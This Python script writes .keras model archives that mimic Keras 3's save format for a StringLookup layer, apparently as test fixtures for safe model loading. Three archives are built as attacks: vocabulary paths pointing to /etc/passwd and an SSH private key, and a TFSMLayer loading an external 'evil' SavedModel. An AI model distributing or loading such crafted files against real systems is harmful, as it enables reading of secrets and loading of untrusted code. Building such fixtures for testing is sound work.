"""Writes .keras archives with the layout Keras 3 gives an adapted StringLookup model.

No Keras is installable here (Debian has no python3-keras; PyPI is out of reach), so this
mirrors what keras.saving.save_model writes (saving_lib: metadata.json, config.json,
model.weights.h5 via H5IOStore, and the layer's assets via DiskIOStore under assets/<layer path>/),
for:
    layer = keras.layers.StringLookup(); layer.adapt(["cat", "dog", "bird", "dog"])
    model = keras.Sequential([keras.Input(shape=(1,), dtype="string"), layer]); model.save(...)
Run with /usr/bin/python3 (needs h5py).
"""
import io
import json
import os
import zipfile

import h5py

HERE = os.path.dirname(os.path.abspath(__file__))
DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def lookup(vocabulary=None, class_name="StringLookup"):
    return {"module": "keras.layers", "class_name": class_name, "config": {
        "name": "string_lookup", "trainable": True, "dtype": DTYPE, "invert": False, "max_tokens": None,
        "num_oov_indices": 1, "oov_token": "[UNK]", "mask_token": None, "output_mode": "int", "sparse": False,
        "pad_to_max_tokens": False, "vocabulary_dtype": "string", "idf_weights": None,
        "vocabulary": vocabulary, "vocabulary_size": 4, "encoding": "utf-8"},
        "registered_name": None, "build_config": {"input_shape": [None, 1]}}


def model(layer):
    return {"module": "keras", "class_name": "Sequential", "config": {
        "name": "sequential", "trainable": True, "dtype": DTYPE, "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "config": {
                "batch_shape": [None, 1], "dtype": "string", "sparse": False, "name": "input_layer"},
             "registered_name": None},
            layer],
        "build_input_shape": [None, 1]}, "registered_name": None, "build_config": {"input_shape": [None, 1]},
        "compile_config": None}


def weights():
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.create_group("layers/string_lookup/vars")
        f.create_group("vars")
    return buffer.getvalue()


def archive(name, config, assets=True):
    with zipfile.ZipFile(os.path.join(HERE, name), "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-11-05@10:12:40"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights())
        if assets:
            # get_vocabulary(include_special_tokens=True), one token a line
            z.writestr("assets/layers/string_lookup/vocabulary.txt", "\n".join(["[UNK]", "dog", "cat", "bird"]))


archive("adapted-string-lookup.keras", model(lookup()))
# The attack: vocabulary as a path outside the archive, read when the layer is built.
archive("vocabulary-path.keras", model(lookup("/etc/passwd")), assets=False)
# The same for TextVectorization, whose StringLookup gets the path.
archive("text-vectorization-path.keras", model(lookup("/home/user/.ssh/id_rsa", "TextVectorization")), assets=False)
# TFSMLayer loads a TensorFlow SavedModel from its filepath.
archive("tfsm-layer.keras", model({"module": "keras.layers", "class_name": "TFSMLayer", "config": {
    "name": "tfsm", "filepath": "/tmp/evil_saved_model", "call_endpoint": "serve", "trainable": False},
    "registered_name": None}), assets=False)
print("written")
